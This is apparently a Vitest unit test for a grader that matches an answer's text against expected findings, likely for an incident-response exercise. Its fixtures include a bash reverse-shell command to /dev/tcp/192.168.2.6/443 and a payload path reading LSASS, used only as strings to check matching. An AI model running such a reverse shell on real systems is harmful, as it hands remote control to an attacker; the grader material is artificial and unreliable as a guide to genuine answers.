import { describe, expect, it } from 'vitest';
import { scoreAnswer } from './score-answer.js';

describe('scoreAnswer', () => {
  it('finds expected strings ignoring case, white space and JSON-doubled backslashes', () => {
    const answer =
      'The process C:\\\\Users\\\\stevie.marie\\\\Downloads\\\\WINX64_PAYLOAD.EXE   read\nLSASS.';
    expect(
      scoreAnswer(answer, ['C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe read lsass']),
    ).toEqual({
      found: ['C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe read lsass'],
      missing: [],
    });
  });

  it('accepts any one of a finding’s alternatives and names the first when none is there', () => {
    expect(
      scoreAnswer('shell to /dev/tcp/192.168.2.6/443', [
        ['bash -i >& /dev/tcp/192.168.2.6/443', '/dev/tcp/192.168.2.6/443'],
        '0x1410',
      ]),
    ).toEqual({
      found: ['/dev/tcp/192.168.2.6/443'],
      missing: ['0x1410'],
    });
  });

  it('does not count a finding the answer only nearly holds', () => {
    expect(scoreAnswer('10.0.5.1 on port 808', ['10.0.5.13', '8080']).missing).toEqual(['10.0.5.13', '8080']);
  });
});
